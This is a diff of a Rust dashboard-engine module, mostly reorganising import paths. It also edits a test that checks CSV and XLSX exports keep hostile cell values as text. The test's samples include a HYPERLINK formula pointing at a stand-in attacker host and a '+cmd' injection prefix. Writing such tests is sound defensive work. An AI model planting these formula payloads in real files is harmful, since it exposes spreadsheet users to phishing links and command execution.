@@ -5,20 +5,20 @@
 //! so that coming back to the same dashboard costs nothing.
 
 use super::{CustomerColumn, CustomersQuery, Engine, ForecastQuery, KpiQuery, Selection};
-use crate::domain::behaviour::Thresholds;
-use crate::domain::charts::{
+use crate::domain::analysis::behaviour::Thresholds;
+use crate::domain::analysis::charts::{
     aged_bars, monthly_flows, overdue_evolution, payment_days, AgedBars, MonthlyFlows, OverdueEvolution, PaymentDays,
 };
-use crate::domain::convert;
-use crate::domain::dunning::templates::Lang;
+use crate::domain::analysis::convert;
+use crate::domain::analysis::kpi::aging::{aged_balance_by, AgeBasis, Buckets, GroupBy};
+use crate::domain::analysis::kpi::kpis_with_sales;
+use crate::domain::analysis::kpi::provisions::ProvisionRates;
+use crate::domain::analysis::kpi::trend::{trend, Trend};
+use crate::domain::analysis::kpi::{Period, Unavailable};
+use crate::domain::export::tables::{customers_table, expected_table, figures_table, forecast_table};
 use crate::domain::export::Kind;
 use crate::domain::export::{aged_balance_table, open_invoices_table, table_csv, table_xlsx, ExportError, Table};
-use crate::domain::export_tables::{customers_table, expected_table, figures_table, forecast_table};
-use crate::domain::kpi::aging::{aged_balance_by, AgeBasis, Buckets, GroupBy};
-use crate::domain::kpi::kpis_with_sales;
-use crate::domain::kpi::provisions::ProvisionRates;
-use crate::domain::kpi::trend::{trend, Trend};
-use crate::domain::kpi::{Period, Unavailable};
+use crate::domain::lang::Lang;
 use chrono::NaiveDate;
 use rust_decimal::Decimal;
 use serde::{Deserialize, Serialize};
@@ -383,13 +383,13 @@ mod tests {
     /// reasons are formulas: every export keeps them as text.
     #[test]
     fn a_hostile_file_goes_through_every_export_as_text() {
-        use crate::domain::dunning::export::{actions_csv, Words};
         use crate::domain::dunning::plan::Assignment;
         use crate::domain::dunning::simulate::{History, Settings};
         use crate::domain::dunning::templates::{template, Template};
-        use crate::domain::engine::DunningQuery;
+        use crate::domain::export::dunning::{actions_csv, Words};
         use crate::domain::export::tests::{assert_no_formula, assert_strings_in_xlsx};
         use crate::domain::import::ImportOptions;
+        use crate::engine::DunningQuery;
         let names = ["=HYPERLINK(\"http://evil.example/?x\",\"Cliquez\")", "+cmd", "@SUM(1)", "-2+3"];
         let mut file =
             String::from("Facture;Code client;Client;Date facture;Échéance;Montant;Division;Litige;Motif du litige\n");
